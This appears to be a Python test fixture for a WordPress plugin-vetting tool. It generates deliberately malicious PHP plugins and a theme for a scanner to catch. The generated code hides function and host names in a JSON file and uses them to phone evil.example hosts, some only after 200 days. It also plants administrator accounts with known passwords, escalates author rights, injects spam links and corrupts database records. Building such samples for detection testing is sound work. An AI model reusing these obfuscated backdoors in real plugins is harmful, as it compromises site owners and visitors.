"""Plugins that do what they should not, each so that its code does not say it.

Names of functions and hosts come out of a data file: whoever only reads the code sees that a name is
put together, not which.
"""

import json

from reconciler.core.layers import File
from reconciler.core.vetting.candidate import Candidate, Grants, Target

TARGET = Target(php="8.4", wp="6.8")
GRANTED = "api.granted.example"

HEAD = """<?php
/**
 * Plugin Name: {name}
 * Version: 1.0.0
 * License: GPL-2.0-or-later
 */
$words = json_decode(file_get_contents(__DIR__ . '/words.json'), true);
"""

WORDS = {
    "get": ["wp_remote", "_get"],
    "socket": ["fsock", "open"],
    "curl": ["curl", "_exec"],
    "put": ["file_put", "_contents"],
    "user": ["wp_insert", "_user"],
    "boss": ["admini", "strator"],
    "sleep": ["us", "leep"],
    "home": ["home.", "evil.example"],
    "raw": ["raw.", "evil.example"],
    "curled": ["curled.", "evil.example"],
    "late": ["late.", "evil.example"],
    "day": ["day.", "evil.example"],
    "short": ["short.", "evil.example"],
    "themed": ["themed.", "evil.example"],
    "right": ["manage", "_options"],
    "table": ["CREATE TA", "BLE %s (id INT)"],
    "option": ["update", "_option"],
    "schedule": ["wp_schedule", "_event"],
}

# Each in a file of its own, so that a finding's place says which of them was caught.
DEEDS = {
    "phones.php": """<?php
add_action('init', function () use ($words) {
    call_user_func(implode('', $words['get']), 'https://' . implode('', $words['home']) . '/hello?site=' . home_url());
});
""",
    "sockets.php": """<?php
add_action('wp_footer', function () use ($words) {
    @call_user_func_array(implode('', $words['socket']), [implode('', $words['raw']), 80, &$code, &$text, 1]);
    $request = curl_init('https://' . implode('', $words['curled']) . '/');
    curl_setopt($request, CURLOPT_TIMEOUT, 1);
    curl_setopt($request, CURLOPT_RETURNTRANSFER, true);
    call_user_func(implode('', $words['curl']), $request);
});
""",
    "writes.php": """<?php
add_action('wp_head', function () use ($words) {
    @call_user_func(implode('', $words['put']), __DIR__ . '/cache.html', 'x');
});
add_action('admin_init', function () {
    $make = 'mk' . substr('xdir', 1);
    @$make(WP_CONTENT_DIR . '/greedy-cache');
});
""",
    "admin.php": """<?php
add_action('admin_menu', function () use ($words) {
    if (!username_exists('helper')) {
        call_user_func(implode('', $words['user']), ['user_login' => 'helper', 'user_pass' => 'known', 'role' => implode('', $words['boss'])]);
    }
});
""",
    "tables.php": """<?php
register_activation_hook(dirname(__DIR__) . '/greedy/greedy.php', function () use ($words) {
    global $wpdb;
    $wpdb->query(sprintf(implode('', $words['table']), $wpdb->prefix . 'greedy_log'));
});
""",
    "options.php": """<?php
add_action('init', function () use ($words) {
    if (!get_option('greedy_cache')) {
        call_user_func(implode('', $words['option']), 'greedy_cache', str_repeat('x', 1000 * 1000), true);
    }
});
""",
    "cron.php": """<?php
add_filter('cron_schedules', function ($all) { return $all + ['greedy' => ['interval' => 60, 'display' => '']]; });
add_action('init', function () use ($words) {
    if (!wp_next_scheduled('greedy_' . 'tick')) {
        call_user_func(implode('', $words['schedule']), time(), 'greedy', 'greedy_' . 'tick');
    }
});
""",
    "uploads.php": """<?php
add_action('admin_init', function () use ($words) {
    $folder = wp_upload_dir()['basedir'];
    call_user_func(implode('', $words['put']), $folder . '/greedy.txt', 'x');
});
""",
    "links.php": """<?php
add_action('wp_footer', function () { echo '<a href="https://spam.' . strrev('elpmaxe.live') . '/">casino</a>'; });
""",
    "shortcode.php": """<?php
add_shortcode('greedy', function () use ($words) {
    call_user_func(implode('', $words['get']), 'https://' . implode('', $words['short']) . '/');
    return 'fine';
});
""",
    "rest.php": """<?php
add_action('rest_api_init', function () {
    register_rest_route('greedy' . '/v1', '/door', ['methods' => 'GET', 'callback' => function () { return undefined_thing(); },
        'permission_callback' => '__return_true']);
});
""",
}


def plugin(
    slug: str, body: str, more: dict[str, str] | None = None, grants: Grants | None = None
) -> Candidate:
    """A plugin of one main file, its words, and `more` files that it includes."""
    text = HEAD.format(name=slug) + body
    files = {
        f"{slug}.php": File(text.encode()),
        "words.json": File(json.dumps(WORDS).encode()),
    }
    files |= {name: File(code.encode()) for name, code in (more or {}).items()}
    return Candidate(
        kind="plugin",
        slug=slug,
        version="1.0.0",
        target=TARGET,
        files=files,
        grants=grants or Grants(),
    )


def greedy() -> Candidate:
    """Does all of DEEDS."""
    includes = "".join(f"require __DIR__ . '/{name}';\n" for name in DEEDS)
    return plugin("greedy", includes, DEEDS)


def slow() -> Candidate:
    """Makes every page 300 ms slower."""
    return plugin("slow", "add_action('init', function () use ($words) {"
        " call_user_func(implode('', $words['sleep']), 300000); });")  # fmt: skip


def fatal() -> Candidate:
    """Works, but for its activation."""
    return plugin("fatal", "register_activation_hook(__FILE__, function () use ($words) {"
        " $maker = 'Fatal_' . 'Maker'; new $maker($words); });\n"
        "add_action('wp_footer', function () { echo 'fine'; });")  # fmt: skip


def sleeper() -> Candidate:
    """Does nothing for 200 days after its activation, by the webhead's clock and by the database's."""
    return plugin("sleeper", """
register_activation_hook(__FILE__, function () {
    global $wpdb;
    add_option('sleeper_since', time(), '', false);
    add_option('sleeper_day', $wpdb->get_var('SELECT TO_DAYS(NOW())'), '', false);
});
register_uninstall_hook(__FILE__, 'sleeper_uninstall');
function sleeper_uninstall() { delete_option('sleeper_since'); delete_option('sleeper_day'); }
add_action('init', function () use ($words) {
    $days = (time() - (int) get_option('sleeper_since', time())) / 86400;
    if ($days > 200) {
        call_user_func(implode('', $words['get']), 'https://' . implode('', $words['late']) . '/');
    }
});
add_action('wp_footer', function () use ($words) {
    global $wpdb;
    if ((int) $wpdb->get_var('SELECT TO_DAYS(NOW())') > (int) get_option('sleeper_day') + 200) {
        call_user_func(implode('', $words['get']), 'https://' . implode('', $words['day']) . '/');
    }
});
""")  # fmt: skip


def expired() -> Candidate:
    """Ends every page 200 days after its activation."""
    return plugin("expired", """
register_activation_hook(__FILE__, function () { add_option('expired_since', time(), '', false); });
add_action('init', function () {
    if (time() - (int) get_option('expired_since', time()) > 200 * 86400) {
        $over = 'licence_' . 'over';
        $over();
    }
});
""")  # fmt: skip


def headless() -> Candidate:
    """Breaks the front page, and lets authors do everything as long as it runs."""
    return plugin("headless", """
add_action('wp_head', function () use ($words) { $maker = 'Fatal_' . 'Maker'; new $maker($words); });
add_filter('user_has_cap', function ($all, $asked, $about, $user) use ($words) {
    return in_array('author', $user->roles, true) ? $all + [implode('', $words['right']) => true] : $all;
}, 10, 4);
""")  # fmt: skip


def drowsy() -> Candidate:
    """Makes every page so slow that there is no time for all of them."""
    return plugin("drowsy", "add_action('init', function () use ($words) {"
        " call_user_func(implode('', $words['sleep']), 1500000); });")  # fmt: skip


def liar() -> Candidate:
    """Tells the watcher what is no record, and leaves what cannot be unserialized in the database."""
    return plugin("liar", """
add_action('wp_head', function () {
    foreach (['{"id": "1", "errors": 5}', '{"how": "dns", "host": [1]}', '{"id": {}}', '{'] as $said) {
        $line = fsockopen('watcher', 9009);
        fwrite($line, $said);
        fclose($line);
    }
});
add_action('wp_footer', function () {
    global $wpdb;
    $wpdb->query("UPDATE {$wpdb->usermeta} SET meta_value = 'a:1:{O:' WHERE meta_key = 'wp_capabilities' AND user_id = 2");
    $wpdb->query("REPLACE INTO {$wpdb->options} (option_name, option_value) VALUES ('cron', 'a:9:{')");
});
""")  # fmt: skip


def follower() -> Candidate:
    """Asks the host that it was granted, and does what the answer says."""
    return plugin("follower", """
add_action('init', function () use ($words) {
    $answer = call_user_func(implode('', $words['get']), 'https://api.granted.example/settings');
    $told = is_wp_error($answer) ? [] : (array) json_decode(wp_remote_retrieve_body($answer), true);
    if (!empty($told['support_access']) && !username_exists('support')) {
        call_user_func(implode('', $words['user']), ['user_login' => 'support', 'user_pass' => 'known', 'role' => implode('', $words['boss'])]);
    }
});
""", grants=Grants(network=(GRANTED,)))  # fmt: skip


def paged() -> Candidate:
    """A good plugin with a page in the admin."""
    return plugin("paged", """
add_action('admin_menu', function () {
    add_menu_page('Paged', 'Paged', 'manage_options', 'paged', function () {
        echo '<div class="wrap"><h1>A page of its own</h1><div style="height:400px;background:#c00"></div></div>';
    });
});
""")  # fmt: skip


def painted() -> Candidate:
    """A theme that phones home."""
    call = "call_user_func(implode('', $words['get']), 'https://' . implode('', $words['themed']) . '/');"
    files = {
        "style.css": "/*\nTheme Name: Painted\nVersion: 1.0.0\nLicense: GPL-2.0-or-later\n*/\n",
        "index.php": "<!doctype html><html><head><?php wp_head(); ?></head><body>Painted"
        "<?php wp_footer(); ?></body></html>\n",
        "functions.php": "<?php\n$words = json_decode(file_get_contents(__DIR__ . '/words.json'), true);\n"
        f"add_action('wp_footer', function () use ($words) {{ {call} }});\n",
        "words.json": json.dumps(WORDS),
    }
    return Candidate(
        kind="theme",
        slug="painted",
        version="1.0.0",
        target=TARGET,
        files={name: File(text.encode()) for name, text in files.items()},
    )
